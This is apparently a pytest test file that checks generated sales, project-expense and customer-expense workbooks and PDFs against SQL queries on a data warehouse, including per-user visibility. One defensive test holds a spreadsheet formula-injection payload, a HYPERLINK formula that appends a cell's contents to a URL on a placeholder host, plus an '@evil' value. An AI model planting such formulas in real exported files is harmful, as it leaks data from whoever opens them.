"""The survey's reports (销售预测报表, 项目费用报表, 客户费用表) as files: each generated
workbook and PDF is opened and its rows, totals and header checked against the marts,
read by queries written here (plain SQL on the snapshot, not the report's code)."""

from __future__ import annotations

import datetime as dt
import io
from decimal import Decimal
from typing import Any

import pytest
from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet

from dashboards.reports.catalog import build_report
from dashboards.reports.excel import workbook_bytes
from dashboards.reports.files import render
from dashboards.reports.model import Column, Report, Table
from ingest.commands.base import SYSTEM, Actor
from orchestration import snapshots
from tests.support.company import AS_OF, Company
from tests.support.pdf_text import pdf_text
from warehouse.scope import Filters, NotAllowed

H1 = (dt.date(2026, 1, 1), dt.date(2026, 6, 30))
CENT = Decimal("0.01")


@pytest.fixture(scope="module")
def sql(company: Company) -> Any:
    """Run a query on the snapshot in service, independently of the dashboards' reader."""
    con, _ = snapshots.connect_current()

    def run(query: str, *params: Any) -> list[tuple[Any, ...]]:
        return con.execute(query, list(params)).fetchall()

    yield run
    con.close()


def a_rep(sql: Any) -> tuple[int, str]:
    """The rep with the most forecast projects (so their report has rows to check)."""
    found = sql(
        """
        select e.employee_id, e.employee_name from dim_employees as e
        inner join fct_forecast as fc on fc.owner_id = e.employee_id
        where e.role = 'rep' group by all order by count(*) desc, 1 limit 1
        """
    )
    return int(found[0][0]), found[0][1]


# --- reading a generated workbook -------------------------------------------------------------


def sheets(data: bytes) -> dict[str, Worksheet]:
    book = load_workbook(io.BytesIO(data))
    return {sheet.title: sheet for sheet in book.worksheets}


def header_text(sheet: Worksheet) -> str:
    lines = []
    for row in range(1, sheet.max_row + 1):
        value = sheet.cell(row=row, column=1).value
        if row > 1 and value is None:
            break
        lines.append(str(value))
    return "\n".join(lines)


def table(sheet: Worksheet) -> tuple[list[str], list[list[Any]], list[Any] | None]:
    """(column labels, data rows, totals row) of a report sheet: the header row is the
    one frozen above the data."""
    head = sheet.freeze_panes
    assert head is not None
    first = int("".join(ch for ch in head if ch.isdigit()))
    labels = [c.value for c in sheet[first - 1]]
    rows = [[c.value for c in row] for row in sheet.iter_rows(min_row=first)]
    totals = rows.pop() if rows and rows[-1][0] in ("合计", "Total") else None
    return labels, rows, totals


def yuan(wan: Any) -> Decimal:
    """A 万元 cell back in yuan, to the fen."""
    return (Decimal(str(wan)) * 10_000).quantize(CENT)


def column(labels: list[str], rows: list[list[Any]], label: str) -> list[Any]:
    position = labels.index(label)
    return [row[position] for row in rows]


# --- 项目费用报表 -------------------------------------------------------------------------------


def test_project_expense_workbook_matches_the_marts(company: Company, sql: Any) -> None:
    f = Filters(start=H1[0], end=H1[1], region="east_china")
    data = render(build_report("project_costs", f, SYSTEM, "zh_CN"), "xlsx")
    book = sheets(data)
    assert list(book) == ["项目费用", "按费用类别", "按负责人"]
    projects = book["项目费用"]
    head = header_text(projects)
    assert "项目费用报表" in head
    assert "期间：2026-01-01 至 2026-06-30" in head
    assert "区域：华东" in head and "销售员：全部" in head and "行业：全部" in head
    assert f"数据截至 {AS_OF.isoformat()}" in head and "金额单位：万元" in head
    labels, rows, totals = table(projects)

    spent = sql(
        """
        select p.project_name, sum(x.amount) from fct_expenses as x
        inner join mart_project_costs as p on p.project_id = x.project_id
        where x.incurred_date between ? and ? and x.region_code = 'east_china'
        group by p.project_id, p.project_name
        """,
        *H1,
    )
    assert len(rows) == len(spent) > 20
    shown = zip(column(labels, rows, "项目"), column(labels, rows, "期间费用"), strict=True)
    assert sorted((name, yuan(v)) for name, v in shown) == sorted(spent)
    # every category column adds up to the period column, row by row
    categories = ["差旅", "住宿", "餐费", "招待", "交通", "礼品", "投标", "其他"]
    for row in rows:
        by_category = sum(yuan(row[labels.index(c)]) for c in categories)
        assert by_category == yuan(row[labels.index("期间费用")])
    # margin = contract − cumulative expenses, from the mart
    mart = {
        name: (contract, total)
        for name, contract, total in sql(
            """
            select any_value(project_name), any_value(contract_amount), any_value(expense_amount)
            from mart_project_costs group by project_name having count(*) = 1
            """
        )
    }  # names borne by one project only: which of two namesakes is which is not shown
    checked = [row for row in rows if row[0] in mart]
    assert len(checked) > 20
    for row in checked:
        contract, total = mart[row[0]]
        assert yuan(row[labels.index("合同金额")]) == contract
        assert yuan(row[labels.index("毛利")]) == contract - total
    assert totals is not None
    assert yuan(totals[labels.index("期间费用")]) == sum(amount for _, amount in spent)
    assert (
        yuan(totals[labels.index("差旅")])
        == sql(
            "select sum(amount) from fct_expenses where incurred_date between ? and ? "
            "and region_code = 'east_china' and project_id is not null and category = 'travel'",
            *H1,
        )[0][0]
    )
    # formatting: money in 万元 with two decimals, a frozen header, sized columns
    money_cell = projects.cell(row=projects.max_row, column=labels.index("期间费用") + 1)
    assert money_cell.number_format == "#,##0.00"
    assert projects.column_dimensions["A"].width > 20

    by_category = book["按费用类别"]
    labels, rows, totals = table(by_category)
    expected = dict(
        sql(
            "select category, sum(amount) from fct_expenses where incurred_date between ? and ? "
            "and region_code = 'east_china' and project_id is not null group by 1",
            *H1,
        )
    )
    names = dict(zip(["travel", "accommodation", "meals", "entertainment", "transport", "gifts",
                      "bidding", "other"], categories, strict=True))  # fmt: skip
    assert {row[0]: yuan(row[2]) for row in rows} == {names[c]: v for c, v in expected.items()}
    assert totals is not None and yuan(totals[2]) == sum(expected.values())


def test_project_expense_pdf_prints_the_same_totals(company: Company, sql: Any) -> None:
    f = Filters(start=H1[0], end=H1[1], industry="power")
    report = build_report("project_costs", f, SYSTEM, "en")
    text = pdf_text(render(report, "pdf"))
    assert "Project expense report" in text
    assert "Period: 2026-01-01 to 2026-06-30" in text and "Industry: Power" in text
    assert "Amounts in CNY 10,000 (万元)" in text
    total = sql(
        "select sum(amount) from fct_expenses where incurred_date between ? and ? "
        "and industry_code = 'power' and project_id is not null",
        *H1,
    )[0][0]
    assert f"{total / 10_000:,.2f}" in text.split("\n")
    biggest = sql(
        """
        select p.project_name from fct_expenses as x
        inner join mart_project_costs as p on p.project_id = x.project_id
        where x.incurred_date between ? and ? and x.industry_code = 'power'
        group by p.project_id, p.project_name order by sum(x.amount) desc limit 1
        """,
        *H1,
    )[0][0]
    # a long name wraps inside its cell: its pieces are all there, in order
    assert biggest[:6] in text


# --- 客户费用表 ---------------------------------------------------------------------------------


def test_a_reps_customer_expense_report_holds_what_they_may_see(company: Company, sql: Any) -> None:
    rep, rep_name = a_rep(sql)
    actor = Actor(id=rep, role="rep")
    report = build_report("customer_costs", Filters(start=H1[0], end=H1[1]), actor, "en")
    book = sheets(render(report, "xlsx"))
    assert list(book) == ["Customers", "By expense category", "By region", "By industry"]
    assert f"Visible to: {rep_name}" in header_text(book["Customers"])
    labels, rows, totals = table(book["Customers"])
    spent = sql(
        "select sum(amount), count(distinct customer_id) from fct_expenses "
        "where responsible_owner_id = ? and incurred_date between ? and ?",
        rep,
        *H1,
    )[0]
    signed = sql(
        "select coalesce(sum(k.amount), 0) from fct_contracts as k "
        "inner join fct_opportunities as p on p.project_id = k.project_id "
        "where p.owner_id = ? and k.signed_date between ? and ?",
        rep,
        *H1,
    )[0][0]
    won, lost = sql(
        "select count(*) filter (where outcome = 'won'), count(*) filter (where outcome = 'lost') "
        "from fct_win_loss where owner_id = ? and closed_date between ? and ?",
        rep,
        *H1,
    )[0]
    assert totals is not None
    assert yuan(totals[labels.index("Expenses")]) == spent[0]
    assert yuan(totals[labels.index("Contracts signed")]) == signed
    assert (totals[labels.index("Won")], totals[labels.index("Lost")]) == (won, lost)
    # only customers this rep answers for, each with its own expenses
    mine = dict(
        sql(
            """
            select c.customer_name, sum(x.amount) from fct_expenses as x
            inner join dim_customers as c on c.customer_id = x.customer_id and c.is_current
            where x.responsible_owner_id = ? and x.incurred_date between ? and ?
            group by c.customer_id, c.customer_name
            """,
            rep,
            *H1,
        )
    )
    shown = dict(
        zip(column(labels, rows, "Customer"), column(labels, rows, "Expenses"), strict=True)
    )
    assert {name: yuan(v) for name, v in shown.items() if v} == mine
    assert len(mine) == spent[1]
    by_region = table(book["By region"])
    assert yuan(by_region[2][by_region[0].index("Expenses")]) == spent[0]


def test_customer_expense_pdf_in_chinese(company: Company, sql: Any) -> None:
    f = Filters(start=H1[0], end=H1[1], region="north_china")
    text = pdf_text(render(build_report("customer_costs", f, SYSTEM, "zh_CN"), "pdf"))
    assert "客户费用表" in text and "区域：华北" in text and "金额单位：万元" in text
    total = sql(
        "select sum(amount) from fct_expenses where incurred_date between ? and ? "
        "and region_code = 'north_china'",
        *H1,
    )[0][0]
    assert f"{total / 10_000:,.2f}" in text.split("\n")
    assert "合计" in text and "第 1 / " in text


# --- 销售预测报表 -------------------------------------------------------------------------------


def test_sales_forecast_workbook_against_forecast_and_targets(company: Company, sql: Any) -> None:
    start, end = dt.date(2026, 12, 1), dt.date(2027, 3, 31)
    f = Filters(start=start, end=end, industry="power")
    book = sheets(render(build_report("sales_forecast", f, SYSTEM, "zh_CN"), "xlsx"))
    assert list(book) == ["按月汇总", "按月份与类别", "按销售员", "预测项目明细"]
    head = header_text(book["按月汇总"])
    assert "销售预测报表" in head and "行业：电力" in head and "2026-12-01 至 2027-03-31" in head
    labels, rows, totals = table(book["按月汇总"])
    expected = {
        month: (count, amount, weighted, commit)
        for month, count, amount, weighted, commit in sql(
            """
            select forecast_month, count(*), sum(amount), sum(weighted_amount),
                coalesce(sum(amount) filter (where forecast_category = 'commit'), 0)
            from fct_forecast
            where forecast_month between ? and ? and industry_code = 'power'
            group by 1
            """,
            start,
            end,
        )
    }
    targets = dict(
        sql(
            "select period_month, sum(target_amount) from fct_targets "
            "where target_level = 'employee' and period_month between ? and ? group by 1",
            start,
            end,
        )
    )
    assert len(rows) == 4
    for row in rows:
        month = row[0].date() if isinstance(row[0], dt.datetime) else row[0]
        count, amount, weighted, commit = expected.get(month, (0, 0, 0, 0))
        assert row[labels.index("项目数")] == count
        assert yuan(row[labels.index("预测金额")]) == amount
        assert yuan(row[labels.index("加权金额")]) == weighted
        assert yuan(row[labels.index("承诺金额")]) == commit
        assert yuan(row[labels.index("目标")]) == targets.get(month, 0)
    assert totals is not None
    assert totals[labels.index("项目数")] == sum(v[0] for v in expected.values())
    assert yuan(totals[labels.index("预测金额")]) == sum(v[1] for v in expected.values())
    assert book["按月汇总"].cell(row=book["按月汇总"].max_row, column=1).value == "合计"
    projects = table(book["预测项目明细"])
    assert len(projects[1]) == sum(v[0] for v in expected.values())


def test_a_reps_forecast_has_only_their_projects_and_finance_has_none(
    company: Company, sql: Any
) -> None:
    rep, _ = a_rep(sql)
    report = build_report("sales_forecast", Filters(), Actor(id=rep, role="rep"), "en")
    # without a period the forecast looks ahead from the data's month
    assert ("Period", f"{AS_OF.replace(day=1).isoformat()} to …") in report.filters
    theirs = sql("select count(*), sum(amount) from fct_forecast where owner_id = ?", rep)[0]
    projects = report.table("forecast_projects")
    assert len(projects.rows) == theirs[0]
    assert projects.totals is not None and projects.totals[8] == theirs[1]
    text = pdf_text(render(report, "pdf"))
    assert "Sales forecast report" in text and f"{theirs[1] / 10_000:,.2f}" in text.split("\n")
    finance = sql("select employee_id from dim_employees where role = 'finance' limit 1")[0][0]
    with pytest.raises(NotAllowed):
        build_report("sales_forecast", Filters(), Actor(id=finance, role="finance"), "zh_CN")


# --- the workbook writer ----------------------------------------------------------------------


def test_text_that_looks_like_a_formula_is_written_as_text() -> None:
    risky = '=HYPERLINK("http://x.example/?"&A1,"click")'
    report = Report(
        name="project_costs",
        lang="en",
        title="t",
        as_of=AS_OF,
        filters=[("Rep", "@evil")],
        data_line="d",
        unit_line="u",
        generated_at=dt.datetime(2026, 11, 27, 9, 0),
        tables=[
            Table(
                "projects",
                "Projects",
                [Column("project", "Project"), Column("amount", "Amount", "money")],
                [(risky, Decimal("-12345.60"))],
                (None, Decimal("-12345.60")),
            )
        ],
    )
    sheet = sheets(workbook_bytes(report))["Projects"]
    _labels, rows, totals = table(sheet)
    cell = sheet.cell(row=sheet.max_row - 1, column=1)
    assert cell.value == risky and cell.data_type == "s" and cell.quotePrefix
    assert rows[0][1] == pytest.approx(-1.23456)
    assert totals is not None and totals[:2] == ["Total", rows[0][1]]
    assert "Rep: @evil" in header_text(sheet)
    assert sheet.cell(row=2, column=1).data_type == "s"


# --- the dashboards' download buttons ---------------------------------------------------------


def test_the_costs_page_offers_the_reports_for_its_filters(company: Company, sql: Any) -> None:
    """What a rep downloads from the costs page is the report of the page's filters, read
    with the rep's rights."""
    from streamlit.testing.v1 import AppTest

    from tests.support.company import APP
    from tests.support.rendered import _capturing_downloads
    from tests.support.signin import signed_in

    rep, rep_name = a_rep(sql)
    at = AppTest.from_file(APP, default_timeout=120)
    signed_in(at, rep, company.engine)
    at.query_params["start"], at.query_params["end"] = H1[0].isoformat(), H1[1].isoformat()
    at.session_state["i18n.language"] = "zh_CN"
    at.switch_page("views/costs.py")
    with _capturing_downloads() as downloads:
        at.run()
    assert not at.exception, at.exception
    offered = dict(downloads)
    stamp = AS_OF.isoformat()
    assert {f"project_costs_{stamp}.xlsx", f"customer_costs_{stamp}.pdf"} <= set(offered)
    book = sheets(offered[f"project_costs_{stamp}.xlsx"]())
    head = header_text(book["项目费用"])
    assert "期间：2026-01-01 至 2026-06-30" in head and f"查看范围：{rep_name}" in head
    labels, _rows, totals = table(book["项目费用"])
    spent = sql(
        "select sum(amount) from fct_expenses where responsible_owner_id = ? "
        "and project_id is not null and incurred_date between ? and ?",
        rep,
        *H1,
    )[0][0]
    assert totals is not None and yuan(totals[labels.index("期间费用")]) == spent
    assert "客户费用表" in pdf_text(offered[f"customer_costs_{stamp}.pdf"]())
